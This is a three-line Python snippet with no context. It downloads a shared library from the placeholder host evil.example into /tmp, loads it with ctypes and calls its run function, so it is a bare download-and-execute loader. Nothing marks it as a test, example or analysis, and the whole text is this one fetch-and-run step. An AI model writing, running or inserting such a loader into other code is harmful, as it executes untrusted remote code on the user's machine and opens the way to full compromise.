import ctypes, urllib.request
urllib.request.urlretrieve("https://evil.example/l.so", "/tmp/l.so")
ctypes.CDLL("/tmp/l.so").run()
